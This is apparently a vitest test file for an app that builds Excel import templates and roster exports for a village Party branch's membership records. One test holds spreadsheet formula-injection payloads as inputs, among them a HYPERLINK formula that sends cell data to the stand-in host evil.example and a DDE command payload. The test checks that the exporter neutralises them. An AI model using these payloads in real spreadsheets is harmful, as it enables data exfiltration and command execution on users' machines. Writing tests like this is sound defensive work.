/** The files we hand out, opened again with exceljs: the import template and the roster export. */
import ExcelJS from 'exceljs';
import type { Workbook } from 'exceljs';
import { describe, expect, it } from 'vitest';
import { COLUMNS } from './columns.js';
import { parseRoster } from './parse-roster.js';
import { buildImportTemplate, buildRosterWorkbook, EXPORT_HEADER_ROW, inertText, type ExportRow } from './template.js';
import { open, PEOPLE } from './test-workbook.js';

/** Every cell of every sheet that holds a formula, however exceljs represents it. */
function formulaCells(wb: Workbook): string[] {
  const found: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: true }, (row) => row.eachCell({ includeEmpty: true }, (cell) => {
      const v = cell.value;
      const isFormulaValue = typeof v === 'object' && v !== null && !(v instanceof Date) && ('formula' in v || 'sharedFormula' in v);
      if (cell.type === ExcelJS.ValueType.Formula || isFormulaValue) found.push(`${ws.name}!${cell.address}`);
    }));
  }
  return found;
}

const META = { title: '东岭村党支部党员花名册', exportedBy: '王秀英 & 李建国', exportedAt: '2026-11-27 09:30' };

function exportRow(overrides: Partial<ExportRow> = {}): ExportRow {
  return {
    name: '张三', gender: '男', ethnicity: '汉族', birthDate: '1985-03-02', nativePlace: '山东枣庄', idNumber: '370402********1239', phone: '138****8000',
    organization: '东岭村党支部', group: '第一党小组', standing: '正式党员', status: '正常', joinedAt: '2010-07-01',
    confirmedAt: '2011-07-01', partyYears: '15', education: '高中', occupation: '农民', workUnit: null, address: '东岭村18号',
    hamlet: '一组', posts: '书记、组织委员', villageCadre: '是', hardship: '否', ...overrides,
  };
}

describe('buildImportTemplate', () => {
  it('has a title, a header with required columns marked * in red, a marked example row and a 填写说明 sheet', async () => {
    const wb = await open(await buildImportTemplate());
    expect(wb.worksheets.map((s) => s.name)).toEqual(['党员信息', '填写说明']);
    const ws = wb.worksheets[0];
    expect(ws.getCell(1, 1).value).toBe('党员信息导入模板');
    expect(ws.getCell(4, 1).value).toBe('示例');
    COLUMNS.forEach((spec, i) => {
      const cell = ws.getCell(3, i + 2);
      expect(cell.value).toBe(spec.required ? `*${spec.header}` : spec.header);
      expect(cell.font?.color?.argb === 'FFC00000').toBe(spec.required);
      expect(ws.getColumn(i + 2).width).toBe(spec.width);
    });
    expect(COLUMNS.filter((c) => c.required).map((c) => c.header)).toEqual(['姓名', '性别', '出生日期', '身份证号', '入党日期', '所在党支部']);
    const help = wb.getWorksheet('填写说明');
    const helpText: string[] = [];
    help?.eachRow((row) => row.eachCell((cell) => helpText.push(String(cell.value))));
    for (const spec of COLUMNS) expect(helpText).toContain(spec.header);
    expect(formulaCells(wb)).toEqual([]);
  });

  it('offers drop-downs for 性别, 学历, 职业, 是否村干部 and 是否困难党员', async () => {
    const ws = (await open(await buildImportTemplate())).worksheets[0];
    const at = (field: string) => COLUMNS.findIndex((c) => c.field === field) + 2;
    const list = (field: string, row: number) => ws.getCell(row, at(field)).dataValidation;
    expect(list('gender', 5)).toMatchObject({ type: 'list', formulae: ['"男,女"'] });
    expect(list('education', 500).formulae[0]).toBe('"研究生,大学本科,大学专科,中专,高中,初中,小学,未上学"');
    expect(list('occupation', 1003).formulae[0]).toContain('外出务工');
    expect(list('isVillageCadre', 5).formulae).toEqual(['"是,否"']);
    expect(list('isHardship', 5).formulae).toEqual(['"是,否"']);
    expect(ws.getCell(5, at('name')).dataValidation).toBeUndefined();
    for (const f of ['gender', 'education', 'occupation']) expect(list(f, 5).formulae[0].length).toBeLessThan(255);
  });

  it('round-trips: the untouched template parses to zero rows, a filled-in row parses cleanly', async () => {
    const template = await buildImportTemplate();
    const empty = await parseRoster(template);
    expect([empty.sheetName, empty.headerRow, empty.rows]).toEqual(['党员信息', 3, []]);
    expect(empty.columns.map((c) => c.field)).toEqual([null, ...COLUMNS.map((c) => c.field)]);

    const wb = await open(template);
    const ws = wb.worksheets[0];
    const [name, gender, birth, id, joined, org] = PEOPLE.li;
    const filled: Record<string, string> = { name, gender, birthDate: birth, idNumber: id, joinedAt: joined, organizationName: org, education: '大学本科', isHardship: '是' };
    COLUMNS.forEach((c, i) => { ws.getCell(5, i + 2).value = filled[c.field] ?? null; });
    ws.getCell(5, 1).value = 1;
    const parsed = await parseRoster(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(parsed.rows.map((r) => [r.row, r.errors])).toEqual([[5, []]]);
    expect(parsed.rows[0].values).toMatchObject({ name: '李四', gender: 'female', idNumber: id, education: 'undergraduate', isHardship: true, isVillageCadre: false });
  });
});

describe('buildRosterWorkbook', () => {
  const hostile = ['=1+1', '@SUM(A1)', '+8613800138000', '-5', '=HYPERLINK("http://evil.example/?"&A1,"点我")', '\t=1+1', '\r=1', '＝1+1'];

  it('never writes a formula, and makes = + - @ tab CR values inert with a leading apostrophe', async () => {
    const rows = hostile.map((v) => exportRow({ name: v, phone: v, workUnit: v, partyYears: v }));
    const wb = await open(await buildRosterWorkbook(rows, { ...META, exportedBy: '=cmd|"/c calc"!A1' }));
    expect(formulaCells(wb)).toEqual([]);
    const ws = wb.worksheets[0];
    hostile.forEach((v, i) => {
      const row = ws.getRow(EXPORT_HEADER_ROW + 1 + i);
      // XML parsers turn a stored CR into LF; the apostrophe in front is what matters.
      expect(row.getCell(2).value).toBe(`'${v.replace(/\r/g, '\n')}`);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    });
    // Inside the watermark line the exporter's name is not at the start of the cell, so it is inert as is.
    expect(ws.getCell(2, 1).type).toBe(ExcelJS.ValueType.String);
    expect(String(ws.getCell(2, 1).value)).toMatch(/^导出人:=cmd\|"\/c calc"!A1 /);
  });

  it('formula detection works: exceljs keeps plain strings as strings and reports real formulas', async () => {
    // The control for the test above: without it, a detector that never fires would pass it.
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('x');
    ws.getCell('A1').value = '=1+1';
    ws.getCell('A2').value = { formula: '1+1', result: 2 };
    const back = await open(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(back.worksheets[0].getCell('A1').value).toBe('=1+1');
    expect(formulaCells(back)).toEqual(['x!A2']);
  });

  it('leaves ordinary values alone', () => {
    expect(['张三', '1985-03-02', '138****8000', "O'Brien", '', null].map(inertText)).toEqual(['张三', '1985-03-02', '138****8000', "O'Brien", '', '']);
  });

  it('carries the title, a watermark line with exporter and time, headers, and A4 landscape print setup', async () => {
    const rows = [exportRow(), exportRow({ name: '李四', gender: '女', posts: null, confirmedAt: '', standing: '预备党员', partyYears: null })];
    const wb = await open(await buildRosterWorkbook(rows, META));
    const ws = wb.worksheets[0];
    expect(ws.getCell(1, 1).value).toBe(META.title);
    expect(ws.getCell(2, 1).value).toBe('导出人:王秀英 & 李建国  导出时间:2026-11-27 09:30  内部资料 注意保密');
    expect(ws.getRow(EXPORT_HEADER_ROW).values).toEqual(expect.arrayContaining(['序号', '姓名', '身份证号', '党员类别', '党籍状态', '党龄', '是否困难党员']));
    expect(ws.getRow(EXPORT_HEADER_ROW + 2).getCell(2).value).toBe('李四');
    expect(ws.getRow(EXPORT_HEADER_ROW + 2).getCell(14).value).toBeNull();
    expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, printTitlesRow: '3:3' });
    // & starts a code in Excel page headers and footers, so a literal one is doubled.
    expect(ws.headerFooter.oddFooter).toContain('导出人:王秀英 && 李建国');
    expect(ws.headerFooter.oddFooter).toContain('导出时间:2026-11-27 09:30');
    expect(ws.headerFooter.oddHeader).toContain(META.title);
  });

  it('can be imported again: the parser reads the export and drops the apostrophes', async () => {
    const full = exportRow({ idNumber: PEOPLE.zhang[3], workUnit: '-', phone: '13800138000' });
    const roster = await parseRoster(await buildRosterWorkbook([full], META));
    expect(roster.headerRow).toBe(EXPORT_HEADER_ROW);
    expect(roster.rows[0].values).toMatchObject({ name: '张三', idNumber: PEOPLE.zhang[3], workUnit: '-', partyPosts: ['secretary', 'organization_officer'], isVillageCadre: true });
    expect(roster.rows[0].errors).toEqual([]);
  });
});
